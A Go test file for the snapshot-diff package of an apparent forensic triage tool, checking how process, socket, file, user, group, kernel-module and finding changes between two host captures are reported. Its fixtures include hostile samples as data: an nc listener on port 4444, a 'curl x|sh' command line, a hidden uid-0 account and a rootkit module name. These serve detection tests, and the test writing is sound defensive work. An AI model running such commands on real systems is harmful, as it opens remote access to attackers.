package diff

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/hozen-dfir/hozen/bundle"
	"github.com/hozen-dfir/hozen/manifest"
)

var t0 = time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)

func at(min int) *time.Time { t := t0.Add(time.Duration(min) * time.Minute); return &t }

func argv(s ...string) []manifest.BString {
	out := make([]manifest.BString, len(s))
	for i, a := range s {
		out[i] = manifest.BString(a)
	}
	return out
}

func snap(mut func(s *Snapshot)) *Snapshot {
	s := &Snapshot{Name: "b.tar.zst", Status: bundle.StatusIntact, StartedAt: t0,
		Host: manifest.Host{Hostname: "web1", MachineID: "m1"}, Profile: manifest.Profile{Name: "triage"},
		Processes: []Process{}, Sockets: []Socket{}, Files: []File{}}
	if mut != nil {
		mut(s)
	}
	return s
}

func sectionOf(t *testing.T, r *Result, name string) Section {
	t.Helper()
	for _, s := range r.Sections {
		if s.Name == name {
			return s
		}
	}
	t.Fatalf("no section %s", name)
	return Section{}
}

// changes lists a section's entries as "C key", for comparing.
func changes(s Section) []string {
	var out []string
	for _, e := range s.Entries {
		out = append(out, e.Change+" "+e.Key)
	}
	return out
}

func wantEntries(t *testing.T, s Section, want ...string) {
	t.Helper()
	got := changes(s)
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("%s: got\n  %s\nwant\n  %s", s.Name, strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}
}

var (
	sshd = Process{PID: 100, PPID: 1, Name: "sshd", Start: at(0), Argv: argv("/usr/sbin/sshd", "-D"), Exe: "/usr/sbin/sshd", ExeSHA256: "aa11"}
	cron = Process{PID: 200, PPID: 1, Name: "cron", Start: at(1), Argv: argv("/usr/sbin/cron", "-f"), Exe: "/usr/sbin/cron", ExeSHA256: "bb22"}
)

func TestProcessRestartedIsGoneAndNew(t *testing.T) {
	old := snap(func(s *Snapshot) { s.Processes = []Process{sshd} })
	restarted := sshd
	restarted.PID, restarted.Start = 300, at(30)
	new := snap(func(s *Snapshot) { s.Processes = []Process{restarted} })
	sec := sectionOf(t, Compare(old, new), SectionProcesses)
	wantEntries(t, sec,
		"- pid 100 /usr/sbin/sshd -D (started 2026-03-01T08:00:00Z)",
		"+ pid 300 /usr/sbin/sshd -D (started 2026-03-01T08:30:00Z)")
	if sec.Added != 1 || sec.Removed != 1 || sec.Changed != 0 {
		t.Errorf("counts %d/%d/%d, want 1 new 1 gone 0 changed", sec.Added, sec.Removed, sec.Changed)
	}
}

func TestProcessPIDReusedByAnotherProgram(t *testing.T) {
	// sshd runs on unchanged; cron exited and its pid went to a shell.
	old := snap(func(s *Snapshot) { s.Processes = []Process{sshd, cron} })
	shell := Process{PID: 200, PPID: 100, Name: "nc", Start: at(20), Argv: argv("nc", "-lvp", "4444"), Exe: "/usr/bin/nc.openbsd", ExeSHA256: "cc33"}
	new := snap(func(s *Snapshot) { s.Processes = []Process{shell, sshd} })
	wantEntries(t, sectionOf(t, Compare(old, new), SectionProcesses),
		"- pid 200 /usr/sbin/cron -f (started 2026-03-01T08:01:00Z)",
		"+ pid 200 nc -lvp 4444 (started 2026-03-01T08:20:00Z)")
}

func TestProcessSameIdentityChanged(t *testing.T) {
	old := snap(func(s *Snapshot) { s.Processes = []Process{sshd} })
	p := sshd
	root := uint32(0)
	p.EUID, p.ExeDeleted = &root, true
	new := snap(func(s *Snapshot) { s.Processes = []Process{p} })
	sec := sectionOf(t, Compare(old, new), SectionProcesses)
	wantEntries(t, sec, "~ pid 100 /usr/sbin/sshd -D (started 2026-03-01T08:00:00Z)")
	if d := strings.Join(sec.Entries[0].Details, "; "); d != "euid ? -> 0; exe deleted false -> true" {
		t.Errorf("details %q", d)
	}
}

func TestProcessExeHash(t *testing.T) {
	// Same start, argv and path but another executable image: two processes.
	other := sshd
	other.ExeSHA256 = "ff99"
	r := Compare(snap(func(s *Snapshot) { s.Processes = []Process{sshd} }), snap(func(s *Snapshot) { s.Processes = []Process{other} }))
	sec := sectionOf(t, r, SectionProcesses)
	if sec.Added != 1 || sec.Removed != 1 {
		t.Errorf("a different exe hash: %v, want gone and new", changes(sec))
	}
	// A hash NEW could not take pairs by path, and says so.
	unhashed := sshd
	unhashed.ExeSHA256 = ""
	r = Compare(snap(func(s *Snapshot) { s.Processes = []Process{sshd} }), snap(func(s *Snapshot) { s.Processes = []Process{unhashed} }))
	sec = sectionOf(t, r, SectionProcesses)
	if sec.Changed != 1 || !strings.Contains(sec.Entries[0].Details[0], "unknown in NEW") {
		t.Errorf("a missing exe hash: %v %v, want one changed", changes(sec), sec.Entries)
	}
}

func TestProcessIdenticalTwins(t *testing.T) {
	// Two workers with one start tick, argv and exe: each pairs once.
	w1 := Process{PID: 10, Start: at(0), Argv: argv("worker"), Exe: "/w", ExeSHA256: "11"}
	w2 := w1
	w2.PID = 11
	r := Compare(snap(func(s *Snapshot) { s.Processes = []Process{w1, w2} }), snap(func(s *Snapshot) { s.Processes = []Process{w2} }))
	sec := sectionOf(t, r, SectionProcesses)
	if sec.Removed != 1 || sec.Added != 0 {
		t.Errorf("twins: %v, want one gone", changes(sec))
	}
}

func TestFileChangedByHash(t *testing.T) {
	mode := "-rw-r--r--"
	f := func(path, sum string) File {
		return File{Path: manifest.BString("files/" + path), Entry: manifest.EntryFile, Outcome: manifest.OutcomeOK, SHA256: sum, Mode: mode}
	}
	touched := f("etc/hosts", "1111222233334444aaaa")
	later := t0.Add(time.Hour)
	touched.Mtime = &later // a new mtime alone is no change
	old := snap(func(s *Snapshot) {
		s.Files = []File{f("etc/passwd", "aaaabbbbccccdddd0000"), f("etc/hosts", "1111222233334444aaaa"), f("tmp/gone", "99")}
	})
	new := snap(func(s *Snapshot) {
		vanished := f("tmp/gone", "")
		vanished.Entry, vanished.Outcome = manifest.EntryNone, manifest.OutcomeVanished
		s.Files = []File{f("etc/passwd", "eeeeffff000011112222"), touched, vanished, f("tmp/new", "77")}
	})
	sec := sectionOf(t, Compare(old, new), SectionFiles)
	wantEntries(t, sec,
		"- /tmp/gone (sha256 99)",
		"+ /tmp/new (sha256 77)",
		"~ /etc/passwd (sha256 eeeeffff00001111)")
	if d := sec.Entries[2].Details; len(d) != 1 || d[0] != "sha256 aaaabbbbccccdddd -> eeeeffff00001111" {
		t.Errorf("details %q", d)
	}
}

func TestSocketBeganListening(t *testing.T) {
	ssh := Socket{Proto: "tcp", State: "LISTEN", Local: "0.0.0.0:22", Remote: "0.0.0.0:0", Listening: true, Owners: []string{"100/sshd"}}
	back := Socket{Proto: "tcp", State: "LISTEN", Local: "0.0.0.0:4444", Remote: "0.0.0.0:0", Listening: true, Owners: []string{"200/nc"}}
	conn := Socket{Proto: "tcp", State: "ESTABLISHED", Local: "10.0.0.5:4444", Remote: "203.0.113.9:51000", Owners: []string{"200/nc"}}
	r := Compare(snap(func(s *Snapshot) { s.Sockets = []Socket{ssh} }), snap(func(s *Snapshot) { s.Sockets = []Socket{ssh, back, conn} }))
	wantEntries(t, sectionOf(t, r, SectionListening), "+ tcp 0.0.0.0:4444 by 200/nc")
	wantEntries(t, sectionOf(t, r, SectionConnections), "+ tcp 10.0.0.5:4444 -> 203.0.113.9:51000 by 200/nc")
	// Another program on the same port is a change of owner.
	hijack := ssh
	hijack.Owners = []string{"300/sshd-evil"}
	r = Compare(snap(func(s *Snapshot) { s.Sockets = []Socket{ssh} }), snap(func(s *Snapshot) { s.Sockets = []Socket{hijack} }))
	sec := sectionOf(t, r, SectionListening)
	if sec.Changed != 1 || sec.Entries[0].Details[0] != "owners 100/sshd -> 300/sshd-evil" {
		t.Errorf("owner change: %v %v", changes(sec), sec.Entries)
	}
}

func TestUsersGroupsModulesFindings(t *testing.T) {
	old := snap(func(s *Snapshot) {
		s.Users = []User{{Name: "root", Shell: "/bin/bash"}, {Name: "www", UID: 33, Shell: "/usr/sbin/nologin"}}
		s.Groups = []Group{{Name: "sudo", GID: 27, Members: argv("alice")}}
		s.Modules = []Module{{Name: "ext4", Size: 100}}
		s.Findings = []Finding{{Rule: "uid0", Severity: "high", Title: "old"}}
	})
	new := snap(func(s *Snapshot) {
		s.Users = []User{{Name: "root", Shell: "/bin/bash"}, {Name: "www", UID: 33, Shell: "/bin/sh"}, {Name: "toor", UID: 0, Shell: "/bin/sh"}}
		s.Groups = []Group{{Name: "sudo", GID: 27, Members: argv("alice", "www")}}
		s.Modules = []Module{{Name: "ext4", Size: 100}, {Name: "diamorphine", Size: 16384, Taint: "OE"}}
		s.Findings = []Finding{{Rule: "uid0", Severity: "high", Title: "new"}}
	})
	r := Compare(old, new)
	wantEntries(t, sectionOf(t, r, SectionUsers), "+ toor (uid 0, shell /bin/sh)", "~ www (uid 33, shell /bin/sh)")
	wantEntries(t, sectionOf(t, r, SectionGroups), "~ sudo (gid 27)")
	wantEntries(t, sectionOf(t, r, SectionModules), "+ diamorphine (16384 bytes) taint OE")
	wantEntries(t, sectionOf(t, r, SectionFindings), "- high uid0: old", "+ high uid0: new")
}

func TestNotComparedWhenMissing(t *testing.T) {
	r := Compare(snap(nil), snap(func(s *Snapshot) { s.Users = []User{} }))
	if s := sectionOf(t, r, SectionUsers); s.Compared || !strings.HasPrefix(s.NotCompared, "OLD does not hold it") {
		t.Errorf("users: %+v", s)
	}
	if s := sectionOf(t, r, SectionPackages); s.Compared {
		t.Errorf("packages compared with no inventory")
	}
}

func TestSameHost(t *testing.T) {
	a := snap(nil)
	b := snap(func(s *Snapshot) { s.Host.MachineID = "m2" })
	if ok, _ := SameHost(a, b); ok {
		t.Error("two machine-ids called one host")
	}
	if r := Compare(a, b); !r.OtherHost {
		t.Error("result does not say other host")
	}
	c := snap(func(s *Snapshot) { s.Host.MachineID, s.Host.Hostname = "", "web2" })
	if ok, _ := SameHost(a, c); ok {
		t.Error("two hostnames (no machine-id) called one host")
	}
	d := snap(func(s *Snapshot) { s.Host.Hostname = "renamed" })
	if ok, _ := SameHost(a, d); !ok {
		t.Error("one machine-id, a new hostname: not one host")
	}
}

func TestTamperedMarksEveryLine(t *testing.T) {
	old := snap(func(s *Snapshot) { s.Processes = []Process{sshd} })
	new := snap(func(s *Snapshot) {
		s.Status, s.Reason = bundle.StatusTampered, "record 3: hash mismatch\nforged line"
		s.Processes = []Process{cron}
	})
	r := Compare(old, new)
	var buf bytes.Buffer
	if err := WriteText(&buf, r); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) < 10 {
		t.Fatalf("only %d lines", len(lines))
	}
	for i, l := range lines {
		if !strings.HasPrefix(l, TamperedMarker) {
			t.Errorf("line %d has no marker: %q", i+1, l)
		}
	}
	buf.Reset()
	if err := WriteJSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Schema        string `json:"schema"`
		TamperedInput bool   `json:"tampered_input"`
		Sections      []struct {
			Entries []map[string]any `json:"entries"`
		} `json:"sections"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != Schema || !doc.TamperedInput {
		t.Errorf("schema %q tampered_input %v", doc.Schema, doc.TamperedInput)
	}
	n := 0
	for _, s := range doc.Sections {
		for _, e := range s.Entries {
			n++
			if e["tampered_input"] != true {
				t.Errorf("entry %v not flagged", e)
			}
		}
	}
	if n != 2 {
		t.Errorf("%d entries, want 2", n)
	}
}

func TestProcessPIDReusedUnhashed(t *testing.T) {
	// The pid of an exited process went to another run of the same
	// program (a respawned worker): the start time tells them apart, and
	// so does the command line when no executable was hashed.
	old := snap(func(s *Snapshot) { s.Processes = []Process{sshd, cron} })
	respawned := sshd
	respawned.Start = at(45)
	other := Process{PID: 200, PPID: 1, Name: "cron", Start: at(1), Argv: argv("/bin/sh", "-c", "curl x|sh"), Exe: "/usr/sbin/cron"}
	unhashed := cron
	unhashed.ExeSHA256 = ""
	new := snap(func(s *Snapshot) { s.Processes = []Process{respawned, other} })
	wantEntries(t, sectionOf(t, Compare(old, new), SectionProcesses),
		"- pid 100 /usr/sbin/sshd -D (started 2026-03-01T08:00:00Z)",
		"- pid 200 /usr/sbin/cron -f (started 2026-03-01T08:01:00Z)",
		"+ pid 100 /usr/sbin/sshd -D (started 2026-03-01T08:45:00Z)",
		"+ pid 200 /bin/sh -c curl x|sh (started 2026-03-01T08:01:00Z)")
	// The same process, hashed in OLD only, is one process, changed.
	new = snap(func(s *Snapshot) { s.Processes = []Process{sshd, unhashed} })
	sec := sectionOf(t, Compare(old, new), SectionProcesses)
	wantEntries(t, sec, "~ pid 200 /usr/sbin/cron -f (started 2026-03-01T08:01:00Z)")
}
